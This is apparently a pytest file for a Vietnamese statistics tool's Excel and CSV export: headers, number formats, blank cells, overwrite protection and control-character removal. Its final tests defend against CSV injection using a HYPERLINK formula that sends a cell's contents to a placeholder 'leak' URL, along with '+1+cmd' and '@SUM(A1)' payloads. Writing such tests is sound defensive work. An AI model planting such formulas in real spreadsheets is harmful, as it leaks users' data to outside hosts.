"""Excel workbooks with numbers as numbers, and CSV that Excel opens as UTF-8 (`indicators --out`)."""

from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from khuyenhoc.cli import EXIT_FAILED, EXIT_OK, EXIT_USAGE, main
from khuyenhoc.excel_export import export_excel
from khuyenhoc.indicators import indicators_frame, pivot_indicator


def test_indicators_as_a_workbook_with_vietnamese_headers_and_numbers(tmp_path, capsys):
    out = tmp_path / "chi-tieu.xlsx"
    assert main(["indicators", "--year", "2013", "--format", "xlsx", "--out", str(out)]) == EXIT_OK
    assert capsys.readouterr().out == f"Đã ghi các chỉ tiêu: {out}\n"
    sheet = load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Mã chỉ tiêu", "Chỉ tiêu", "Giá trị", "Đơn vị tính")
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["members"] == ("members", "Số hội viên", 9123, "người")
    assert by_id["fund_total_vnd"][2] == 343_380_000 and isinstance(by_id["fund_total_vnd"][2], int)
    assert round(by_id["members_growth_pct"][2], 4) == 5.6025
    assert sheet.cell(row=2, column=3).number_format == "#,##0"
    assert sheet.title == "2013"


def test_the_groups_indicators_in_the_workbook(tmp_path, capsys):
    from groups_data import write

    out = tmp_path / "chi-tieu-2024.xlsx"
    assert main(["indicators", "--data", str(write(tmp_path)), "--year", "2024", "--format", "xlsx", "--out", str(out)]) == EXIT_OK
    by_id = {row[0]: row for row in load_workbook(out).active.iter_rows(values_only=True)}
    assert by_id["scholarships_vnd"] == ("scholarships_vnd", "Giá trị học bổng", 21_000_000, "đồng")
    assert by_id["learning_citizens_pct"][2] == 40.0 and by_id["boards_change"][2] == 1
    assert by_id["centre_learners"][2:] == (210, "lượt học viên")


def test_undefined_values_are_blank_cells(tmp_path):
    out = tmp_path / "2009.xlsx"
    assert main(["indicators", "--year", "2009", "--format", "xlsx", "--out", str(out), "--lang", "en"]) == EXIT_OK
    rows = {row[0]: row for row in load_workbook(out).active.iter_rows(values_only=True)}
    assert rows["Indicator ID"][1:] == ("Indicator", "Value", "Unit")
    assert rows["members_change"][2] is None


def test_xlsx_needs_out_and_out_refuses_an_existing_file(tmp_path, capsys):
    assert main(["indicators", "--year", "2013", "--format", "xlsx"]) == EXIT_USAGE
    assert "--out" in capsys.readouterr().err
    existing = tmp_path / "da-co.csv"
    existing.write_text("giữ nguyên", encoding="utf-8")
    assert main(["indicators", "--year", "2013", "--format", "csv", "--out", str(existing)]) == EXIT_FAILED
    assert existing.read_text(encoding="utf-8") == "giữ nguyên"
    assert main(["indicators", "--year", "2013", "--format", "csv", "--out", str(existing), "--force"]) == EXIT_OK
    data = existing.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,label,value")
    assert "Số hội viên" in data.decode("utf-8-sig")


def test_export_excel_keeps_a_pivot_index_and_integer_counts(sample_table, tmp_path):
    tidy = indicators_frame(sample_table)
    members = pivot_indicator(tidy[(tidy["scope_type"] == "unit") & (tidy["level"] == "commune")], "members")
    out = export_excel(members, tmp_path / "hoi-vien.xlsx")
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert rows[0] == ("unit_name", "2009", "2010", "2011", "2012", "2013")
    assert ("Phường Đức Xuân", 1399, 1450, 1417, 1730, 1680) in rows
    back = pd.read_excel(out)
    assert len(back) == 8


FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'


def test_export_excel_stores_a_formula_like_name_as_text(sample_frame, tmp_path):
    """Issue 22, item 2: a unit name starting with '=' is text in the pivot's index and the tidy frame, never a formula."""
    from khuyenhoc.table import table_from_frame

    sample_frame.loc[sample_frame["unit_id"] == "duc-xuan", "unit_name"] = FORMULA_NAME
    tidy = indicators_frame(table_from_frame(sample_frame))
    units = tidy[(tidy["scope_type"] == "unit") & (tidy["level"] == "commune") & (tidy["year"] == 2013)]  # one year holds the name
    for frame, name in ((pivot_indicator(units, "members"), "pivot.xlsx"), (units, "tidy.xlsx")):
        sheet = load_workbook(export_excel(frame, tmp_path / name)).active
        column = [c.value for c in sheet[1]].index("unit_name") + 1
        cells = [row[column - 1] for row in sheet.iter_rows(min_row=2) if row[column - 1].value == FORMULA_NAME]
        assert cells and all(cell.data_type == "s" for cell in cells), name
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_export_excel_drops_characters_a_workbook_cannot_hold(tmp_path):
    """Issue 22, item 10: openpyxl refuses control characters (IllegalCharacterError); the writer removes them."""
    frame = pd.DataFrame({"unit_name": ["Xã\x01 An", "Xã Bình"], "members": [10, None]})
    rows = list(load_workbook(export_excel(frame, tmp_path / "x.xlsx")).active.iter_rows(values_only=True))
    assert rows == [("unit_name", "members"), ("Xã An", 10), ("Xã Bình", None)]


def test_csv_cells_that_would_start_a_formula_get_a_quote():
    """Issue 22, item 2 (OWASP CSV injection): =, +, -, @, tab and CR starting a text cell get a leading '; numbers
    and text that is only a signed number do not."""
    from khuyenhoc.excel_export import csv_text

    frame = pd.DataFrame({"name": [FORMULA_NAME, "+1+cmd", "-12 người", "@SUM(A1)", "\tx", "Xã An", "-5,6", None],
                          "value": pd.Series([1, -2, 3, None, 5, 6, 7, 8], dtype=object)})
    rows = list(csv.reader(io.StringIO(csv_text(frame).removeprefix("\ufeff"))))
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA_NAME, "'+1+cmd", "'-12 người", "'@SUM(A1)", "'\tx", "Xã An", "-5,6", ""]
    assert [row[1] for row in rows[1:]] == ["1", "-2", "3", "", "5", "6", "7", "8"]
